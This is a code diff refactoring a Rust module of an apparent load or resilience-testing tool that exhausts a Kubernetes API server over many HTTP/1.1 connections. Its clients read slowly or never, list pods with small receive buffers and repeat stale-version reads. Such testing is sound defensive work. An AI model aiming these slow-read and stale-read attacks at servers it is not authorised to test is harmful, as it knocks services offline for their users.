@@ -1,41 +1,42 @@
-//! Many HTTP/1.1 connections with one request at a time each, sent as bytes: a connection costs the attacker a task and a socket.
+//! Many HTTP/1.1 connections with one request at a time each, sent as bytes: a connection costs the attacker one task and one socket.
 
 use std::collections::VecDeque;
-use std::sync::{Arc, Mutex, PoisonError};
+use std::sync::Arc;
 use std::time::Duration;
 
 use anyhow::{Result, ensure};
+use parking_lot::Mutex;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio::task::JoinSet;
 
-use super::{BACK_AFTER, Open, Scene, count, writes};
-use crate::cli::hostile::Attack;
+use super::Attack;
+use super::{AttackState, BACK_AFTER, OpenConnection, count, writes};
 use crate::target::source_socket;
-use crate::wire::response::{Progress, Response};
+use crate::wire::response::read_head;
 
-/// How old a version is that is read exactly, seconds.
+/// Age of the version in exact reads, seconds.
 const AGE: usize = 5;
-/// Bytes a second of one who reads slowly.
+/// Bytes a second of a slow reader.
 const SLOW_LEN: usize = 10_000;
-/// How often such a one reads.
+/// How often a slow reader reads.
 const SLOW_EVERY: Duration = Duration::from_millis(100);
-/// Receive buffer of those who read slowly or never, bytes.
+/// Receive buffer of clients that read slowly or never, bytes.
 const SMALL_BUFFER: u32 = 4_096;
-/// How often it is looked whether the server has cut a connection that is not read.
+/// How often to check whether the server has reset a connection that is not read.
 const LOOK: Duration = Duration::from_secs(1);
-/// Longest time without a byte of an answer.
+/// Longest time without a byte of a response.
 const ANSWER_WAIT: Duration = Duration::from_secs(30);
 
 /// The newest versions, one a second.
 #[derive(Debug, Default)]
-pub(super) struct Versions {
+pub(super) struct RecentVersions {
     kept: Mutex<VecDeque<String>>,
 }
 
-impl Versions {
+impl RecentVersions {
     pub(super) fn push(&self, version: &str) {
-        let mut kept = self.kept.lock().unwrap_or_else(PoisonError::into_inner);
+        let mut kept = self.kept.lock();
         kept.push_back(version.to_owned());
         if kept.len() > AGE {
             kept.pop_front();
@@ -43,14 +44,13 @@ impl Versions {
     }
 
     fn oldest(&self) -> Option<String> {
-        let kept = self.kept.lock().unwrap_or_else(PoisonError::into_inner);
+        let kept = self.kept.lock();
         kept.front().cloned()
     }
 }
 
-/// Begins.
-pub(super) fn begin(scene: &Arc<Scene>, clients: &mut JoinSet<()>) {
-    let versions = Arc::new(Versions::default());
+pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
+    let versions = Arc::new(RecentVersions::default());
     if scene.flags.attack == Attack::Exact {
         clients.spawn(writes::follow_versions(scene.clone(), versions.clone()));
     }
@@ -62,7 +62,7 @@ pub(super) fn begin(scene: &Arc<Scene>, clients: &mut JoinSet<()>) {
                 scene.pace.turn().await;
                 let outcome = client(&scene, &versions, &mut is_first).await;
                 if std::mem::take(&mut is_first) {
-                    count(&scene.counts.begun);
+                    count(&scene.counts.started);
                 }
                 count(match outcome {
                     Ok(()) => &scene.counts.closed,
@@ -74,15 +74,15 @@ pub(super) fn begin(scene: &Arc<Scene>, clients: &mut JoinSet<()>) {
     }
 }
 
-/// One connection, until it ends; an error if it was turned away.
-async fn client(scene: &Scene, versions: &Versions, is_first: &mut bool) -> Result<()> {
+/// One connection, until it ends; an error if it was refused.
+async fn client(scene: &AttackState, versions: &RecentVersions, is_first: &mut bool) -> Result<()> {
     let attack = scene.flags.attack;
     let is_small = matches!(attack, Attack::SlowLists | Attack::Stalled);
     let address = scene.target.address;
     let buffer = is_small.then_some(SMALL_BUFFER);
     let socket = source_socket(address, scene.flags.source, buffer)?;
     let mut stream = socket.connect(address).await?;
-    let _open = Open::of(scene);
+    let _open = OpenConnection::of(scene);
     let path = match attack {
         Attack::Exact => return repeat(scene, versions, stream, is_first).await,
         Attack::SlowLists => "/api/v1/pods?resourceVersion=0",
@@ -96,7 +96,7 @@ async fn client(scene: &Scene, versions: &Versions, is_first: &mut bool) -> Resu
     let mut head = [0; 12];
     tokio::time::timeout(ANSWER_WAIT, stream.read_exact(&mut head)).await??;
     if std::mem::take(is_first) {
-        count(&scene.counts.begun);
+        count(&scene.counts.started);
     }
     ensure!(&head[9..] == b"200", "turned away");
     count(&scene.counts.done);
@@ -108,14 +108,14 @@ async fn client(scene: &Scene, versions: &Versions, is_first: &mut bool) -> Resu
     Ok(())
 }
 
-/// Reads nothing until the server cuts the connection. One that it closes in good order cannot be told from one that stays.
+/// Reads nothing until the server resets the connection. A connection that was closed in order looks as if it stayed.
 async fn never_read(stream: &TcpStream) {
     while let Ok(None) = stream.take_error() {
         tokio::time::sleep(LOOK).await;
     }
 }
 
-/// Reads until the server closes: as fast as it comes, or a little now and then.
+/// Reads until the server closes: as fast as possible, or a little now and then.
 async fn read(stream: &mut TcpStream, every: Option<Duration>) {
     let len = if every.is_some() {
         SLOW_LEN / 10
@@ -130,14 +130,13 @@ async fn read(stream: &mut TcpStream, every: Option<Duration>) {
     }
 }
 
-/// Reads one pod as it was some time ago, again and again.
+/// Reads one pod at an old version, again and again.
 async fn repeat(
-    scene: &Scene,
-    versions: &Versions,
+    scene: &AttackState,
+    versions: &RecentVersions,
     mut stream: TcpStream,
     is_first: &mut bool,
 ) -> Result<()> {
-    let mut buffer = vec![0; 16 << 10];
     loop {
         scene.pace.turn().await;
         let Some(version) = versions.oldest() else {
@@ -149,20 +148,11 @@ async fn repeat(
         stream
             .write_all(&scene.target.fetch_text_as(&path, "application/json"))
             .await?;
-        let mut response = Response::default();
-        loop {
-            let reading = stream.read(&mut buffer);
-            let len = tokio::time::timeout(ANSWER_WAIT, reading).await??;
-            ensure!(len > 0, "closed within an answer");
-            if let Progress::Complete(_) = response.feed(&buffer[..len], |_, _| {})? {
-                break;
-            }
-        }
+        let head = tokio::time::timeout(ANSWER_WAIT, read_head(&mut stream)).await??;
         if std::mem::take(is_first) {
-            count(&scene.counts.begun);
+            count(&scene.counts.started);
         }
-        let status = response.head().map_or(0, |head| head.status);
-        count(if status == 200 {
+        count(if head.status == 200 {
             &scene.counts.done
         } else {
             &scene.counts.refused
